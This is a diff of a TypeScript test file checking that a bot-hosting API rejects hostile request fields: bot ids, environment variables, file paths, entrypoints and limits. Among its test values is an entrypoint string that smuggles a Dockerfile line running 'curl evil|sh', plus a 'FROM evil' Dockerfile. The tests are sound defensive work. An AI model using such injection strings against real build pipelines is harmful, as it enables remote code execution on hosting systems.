@@ -1,4 +1,4 @@
-/** Hostile fields of requests: names, variables, requirements, files, limits. Numbered as in hostile.test.ts. */
+/** Hostile fields of requests: names, variables, requirements, files, limits. */
 import { describe, expect, it } from 'vitest';
 import { type HostileCase, openHostileDoors, simple, start } from '../kit/hostile-doors.ts';
 
@@ -9,7 +9,7 @@ const withEnv = (env_vars: unknown) => ({ ...simple, env_vars });
 const withLimits = (resource_limits: unknown) => ({ ...simple, resource_limits });
 const withRequirements = (...requirements: unknown[]) => ({ ...simple, requirements });
 
-describe('18: a bot id is 1 to 64 of [a-zA-Z0-9_-]', () => {
+describe('hostile 18: a bot id is 1 to 64 of [a-zA-Z0-9_-]', () => {
   const named = (bot_id: unknown): HostileCase => [
     JSON.stringify(bot_id)?.slice(0, 60) ?? 'none',
     { ...simple, bot_id },
@@ -38,7 +38,7 @@ describe('18: a bot id is 1 to 64 of [a-zA-Z0-9_-]', () => {
   ]);
 });
 
-describe('19, 20, 21: names that look alike or like something else are names', () => {
+describe('hostile 19, 20, 21: names that look alike or like something else are names', () => {
   it('each is a bot of its own', async () => {
     const names = [
       'Bot',
@@ -64,37 +64,37 @@ describe('19, 20, 21: names that look alike or like something else are names', (
   });
 });
 
-describe('23 to 27: environment variables', () => {
+describe('environment variables', () => {
   const named = (name: string): HostileCase => [
-    `23: the name ${JSON.stringify(name).slice(0, 40)}`,
+    `hostile 23: the name ${JSON.stringify(name).slice(0, 40)}`,
     withEnv({ [name]: 'x' }),
     'INVALID_ENV_VARS',
   ];
   const valued = (value: unknown): HostileCase => [
-    `27: the value ${JSON.stringify(value)}`,
+    `hostile 27: the value ${JSON.stringify(value)}`,
     withEnv({ A: value }),
     'INVALID_ENV_VARS',
   ];
   doors.refuses([
     ...['', '=x', 'A=B', 'A B', 'A\nB', '1A', 'A-B', 'A'.repeat(300), 'ИМЯ', 'A\u0000'].map(named),
-    ['24: a value with a NUL', withEnv({ A: 'a\0b' }), 'INVALID_ENV_VARS'],
-    ['25: a value of 128 KiB', withEnv({ A: 'x'.repeat(128 * 1024) }), 'INVALID_ENV_VARS'],
+    ['hostile 24: a value with a NUL', withEnv({ A: 'a\0b' }), 'INVALID_ENV_VARS'],
+    ['hostile 25: a value of 128 KiB', withEnv({ A: 'x'.repeat(128 * 1024) }), 'INVALID_ENV_VARS'],
     [
-      '25: 300 KiB together',
+      'hostile 25: 300 KiB together',
       withEnv(Object.fromEntries(Array.from({ length: 10 }, (_, n) => [`A${n}`, 'x'.repeat(30 * 1024)]))),
       'INVALID_ENV_VARS',
     ],
     [
-      '25: 201 variables',
+      'hostile 25: 201 variables',
       withEnv(Object.fromEntries(Array.from({ length: 201 }, (_, n) => [`A${n}`, 'x']))),
       'INVALID_ENV_VARS',
     ],
-    ['26: a reserved name', withEnv({ BOTRUNNER_X: 'y' }), 'INVALID_ENV_VARS'],
+    ['hostile 26: a reserved name', withEnv({ BOTRUNNER_X: 'y' }), 'INVALID_ENV_VARS'],
     ...[5, true, null, { a: 1 }, ['x']].map(valued),
   ]);
 });
 
-describe('30, 31, 32: requirements', () => {
+describe('hostile 30, 31, 32: requirements', () => {
   const item = (text: unknown): HostileCase => [
     JSON.stringify(text).slice(0, 60),
     withRequirements(text),
@@ -122,14 +122,14 @@ describe('30, 31, 32: requirements', () => {
   ]);
 });
 
-describe('34 to 38: files and the entrypoint', () => {
+describe('files and the entrypoint', () => {
   const key = (name: string): HostileCase => [
-    `34: the name ${JSON.stringify(name).slice(0, 40)}`,
+    `hostile 34: the name ${JSON.stringify(name).slice(0, 40)}`,
     files({ [name]: 'x', 'bot.py': '' }),
     'INVALID_FILE_PATH',
   ];
   const run = (entrypoint: string): HostileCase => [
-    `38: ${JSON.stringify(entrypoint)}`,
+    `hostile 38: ${JSON.stringify(entrypoint)}`,
     { ...files({ 'bot.py': '' }), entrypoint },
     'INVALID_ENTRYPOINT',
   ];
@@ -154,22 +154,22 @@ describe('34 to 38: files and the entrypoint', () => {
       'a\nb',
       'a\u202eb',
     ].map(key),
-    ['36: a file that is a folder too', files({ a: '', 'a/b': '', 'bot.py': '' }), 'INVALID_FILE_PATH'],
+    ['hostile 36: a file that is a folder too', files({ a: '', 'a/b': '', 'bot.py': '' }), 'INVALID_FILE_PATH'],
     [
-      '36: one name in two Unicode forms',
+      'hostile 36: one name in two Unicode forms',
       files({ '\u00e9.py': '', 'e\u0301.py': '', 'bot.py': '' }),
       'INVALID_FILE_PATH',
     ],
     [
-      '37: 100,000 files',
+      'hostile 37: 100,000 files',
       files(Object.fromEntries(Array.from({ length: 100_000 }, (_, n) => [`f${n}`, '']))),
       'MALFORMED_REQUEST',
     ],
-    ['37: a file of 20 MB', files({ 'bot.py': 'x'.repeat(20_000_000) }), 'PAYLOAD_TOO_LARGE', 413],
-    ['37: a file that is no text', files({ 'bot.py': 5 }), 'INVALID_FILE_CONTENT'],
-    ['37: code and files', { ...simple, files: { 'bot.py': '' } }, 'CONFLICTING_FIELDS'],
-    ['37: no file', files({}), 'EMPTY_FILES'],
-    ['37: no code', { ...start, deployment_mode: 'simple' }, 'MISSING_CODE'],
+    ['hostile 37: a file of 20 MB', files({ 'bot.py': 'x'.repeat(20_000_000) }), 'PAYLOAD_TOO_LARGE', 413],
+    ['hostile 37: a file that is no text', files({ 'bot.py': 5 }), 'INVALID_FILE_CONTENT'],
+    ['hostile 37: code and files', { ...simple, files: { 'bot.py': '' } }, 'CONFLICTING_FIELDS'],
+    ['hostile 37: no file', files({}), 'EMPTY_FILES'],
+    ['hostile 37: no code', { ...start, deployment_mode: 'simple' }, 'MISSING_CODE'],
     ...[
       'bot.py"]\nRUN curl evil|sh\nCMD ["x',
       '-c',
@@ -183,7 +183,7 @@ describe('34 to 38: files and the entrypoint', () => {
     ].map(run),
   ]);
 
-  it('35, 36: a Dockerfile is a file, and names that differ in case are two', async () => {
+  it('hostile 35, 36: a Dockerfile is a file, and names that differ in case are two', async () => {
     const names = {
       'bot.py': '',
       Dockerfile: 'FROM evil',
@@ -197,7 +197,7 @@ describe('34 to 38: files and the entrypoint', () => {
   });
 });
 
-describe('78, 79: resource limits', () => {
+describe('hostile 78, 79: resource limits', () => {
   const limit = (limits: object): HostileCase => [
     JSON.stringify(limits),
     withLimits(limits),
@@ -213,7 +213,7 @@ describe('78, 79: resource limits', () => {
   ]);
 });
 
-describe('97: log lines', () => {
+describe('hostile 97: log lines', () => {
   const lines = (value: unknown): HostileCase => [
     JSON.stringify(value),
     { action: 'logs', bot_id: 'resident', lines: value },
